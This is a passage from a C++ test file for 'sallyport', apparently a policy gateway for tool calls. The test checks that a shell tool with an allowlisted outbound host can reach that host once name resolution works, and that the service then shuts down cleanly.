  const std::string policy = directory / "policy.yaml", state = directory / "state";
  write_file(policy,
             "version: 1\nroles: { worker: [go] }\ncallers: { will: { role: worker } }\n"
             "tools:\n  shell: { use: run_shell, needs: [go], screen: none, network: { allow: "
             "[{ host: late.example.org, scheme: http }] } }\n",
             GetParam());
  const std::string address = "127.0.0.1:8600";
  LiveProcess service = lab_.start(GetParam(), {sallyport_path(), "serve", "--policy", policy,
                                                "--state", state, "--listen", address});
  ASSERT_TRUE(eventually([&] {
    return !service.alive() ||
           lab_.outside({"curl", "-sf", "http://" + address + "/readyz"}).exit_code == 0;
  }));
  EXPECT_TRUE(service.alive()) << service.said();
  std::string key =
      lab_.outside({sallyport_path(), "key", "add", "will", "--policy", policy, "--state", state},
                   "", GetParam())
          .out;
  key.resize(key.find('\n'));
  const auto said = [&] {
    return lab_
        .outside({"curl", "-s", "-H", "Authorization: Bearer " + key, "--data-binary",
                  R"({"arguments": {"code": "curl -sS http://late.example.org/"}})",
                  "http://" + address + "/v1/tools/shell/call"})
        .out;
  };
  EXPECT_THAT(said(), HasSubstr("Sallyport allowed this request, and it failed"));
  write_file(lab_ / "hosts", "127.0.0.1 localhost\n93.184.216.34 late.example.org\n");
  EXPECT_THAT(said(), HasSubstr("hello late.example.org /"));
  service.signal(SIGTERM);
  EXPECT_EQ(service.wait(), 0);
}

SALLYPORT_FOR_ROOT_AND_USER(Egress);

}  // namespace
}  // namespace sallyport::test
